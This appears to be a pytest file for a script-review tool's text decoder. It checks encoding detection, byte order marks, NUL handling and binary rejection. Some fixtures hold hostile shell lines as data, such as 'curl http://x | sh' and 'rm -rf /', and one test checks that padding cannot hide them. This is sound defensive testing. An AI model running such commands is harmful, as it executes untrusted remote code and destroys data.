from __future__ import annotations

import codecs
import random
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from include.script_review.decode import decode
from include.script_review.source import Source

SCRIPT = "# Größe prüfen – 数\r\nRemove-Item $Path -Recurse\r\n\tWrite-Output 'ok'\n"


def read(data: bytes) -> tuple[str, tuple[str, ...]]:
    found = decode(data)
    assert found is not None
    return found.text, found.notes


@pytest.mark.parametrize("data", [SCRIPT.encode(), codecs.BOM_UTF8 + SCRIPT.encode()])
def test_utf8_needs_no_note(data: bytes) -> None:
    assert read(data) == (SCRIPT, ())


@pytest.mark.parametrize(
    ("mark", "encoding", "note"),
    [
        (codecs.BOM_UTF16_LE, "utf-16-le", "UTF-16 LE, by its byte order mark"),
        (codecs.BOM_UTF16_BE, "utf-16-be", "UTF-16 BE, by its byte order mark"),
        (codecs.BOM_UTF32_LE, "utf-32-le", "UTF-32 LE, by its byte order mark"),
        (codecs.BOM_UTF32_BE, "utf-32-be", "UTF-32 BE, by its byte order mark"),
        (b"", "utf-16-le", "UTF-16 LE without a byte order mark"),
        (b"", "utf-16-be", "UTF-16 BE without a byte order mark"),
    ],
)
def test_wide_encodings_are_read_and_named(mark: bytes, encoding: str, note: str) -> None:
    assert read(mark + SCRIPT.encode(encoding)) == (SCRIPT, (note,))


def test_an_odd_byte_at_the_end_of_utf16_is_one_broken_place() -> None:
    text, notes = read(codecs.BOM_UTF16_LE + SCRIPT.encode("utf-16-le") + b"x")
    assert text == SCRIPT + "\ufffd"
    assert notes[1:] == ("places that are no characters: 1",)


def test_what_begins_as_utf32_but_is_utf16_is_read_as_that() -> None:
    assert read(codecs.BOM_UTF16_LE + "\x00ab".encode("utf-16-le"))[0] == "\x00ab"


def test_half_a_surrogate_pair_becomes_a_replacement() -> None:
    text, _ = read(codecs.BOM_UTF16_LE + b"a\x00\x00\xd8b\x00" * 1)
    assert text == "a\ufffdb"
    text.encode()


def test_windows_1252_is_the_fallback() -> None:
    text, notes = read("# Größe – „prüfen“ für 5 €\n".encode("cp1252"))
    assert text == "# Größe – „prüfen“ für 5 €\n"
    assert notes == ("not UTF-8; read as Windows-1252",)


def test_one_broken_byte_does_not_make_utf8_another_encoding() -> None:
    text, notes = read("# Größe für Bücher\n".encode() + b"\xff\n" + b"echo ok\n" * 20)
    assert text.startswith("# Größe für Bücher\n\ufffd\n")
    assert notes == ("places that are no characters: 1",)


def test_a_few_nuls_do_not_make_a_script_binary() -> None:
    text, notes = read(SCRIPT.encode() + b"rm\x00 -rf\x00 /\n")
    assert text.endswith("rm\x00 -rf\x00 /\n")
    assert notes == ("NUL characters: 2",)


def test_a_script_with_an_archive_behind_it_is_read() -> None:
    tail = zlib.compress(random.Random(1).randbytes(20_000))
    text, notes = read(b"#!/bin/sh\ncurl http://x | sh\nexit 0\n" + tail)
    assert text.startswith("#!/bin/sh\ncurl http://x | sh\n")
    assert any(note.startswith("NUL characters") for note in notes)


def test_nuls_cannot_hide_a_script_that_names_its_shell() -> None:
    assert read(b"#!/bin/bash\n" + b"\x00" * 500 + b"rm -rf /\n")[0].endswith("rm -rf /\n")


@pytest.mark.parametrize("data", [b"one\rtwo\r", b"one\r\ntwo\nthree\r"])
def test_line_ends_are_kept_and_odd_ones_named(data: bytes) -> None:
    text, notes = read(data)
    assert text == data.decode()
    assert notes == (f"carriage returns without a newline: {text.replace(chr(13) + chr(10), '').count(chr(13))}",)


@pytest.mark.parametrize(
    "data",
    [
        random.Random(2).randbytes(5_000),
        b"\x7fELF\x02\x01\x01" + bytes(200) + b"text" * 50,
        b"\x89PNG\r\n\x1a\n" + bytes(8) + random.Random(3).randbytes(500),
        bytes(10_000),
        b"PK\x03\x04" + random.Random(4).randbytes(3_000),
        codecs.BOM_UTF16_LE + random.Random(5).randbytes(3_000),
        b"".join(number.to_bytes(4, "little") for number in range(2_000)),
        b"".join(number.to_bytes(2, "little") for number in range(0, 9_000, 3)),
    ],
    ids=["random", "program", "picture", "zeros", "archive", "marked", "numbers", "samples"],
)
def test_what_is_no_text_is_none(data: bytes) -> None:
    assert decode(data) is None


@pytest.mark.parametrize(
    "data", [b"", b"\x00", b"\xff", b"a", b"\xff\xfe", b"\xef\xbb\xbf", b"\xff\xfe\x00\x00", b"\x1b[31mred\x1b[0m"]
)
def test_the_smallest_files_are_text(data: bytes) -> None:
    assert decode(data) is not None


@given(
    st.binary(max_size=400) | st.builds(lambda mark, rest: mark + rest, st.sampled_from([b"\xff\xfe", b"\xfe\xff"]), st.binary())
)
def test_no_bytes_raise_and_no_text_has_surrogates(data: bytes) -> None:
    found = decode(data)
    if found is not None:
        assert Source("a", "text", found.text).data.decode() == found.text
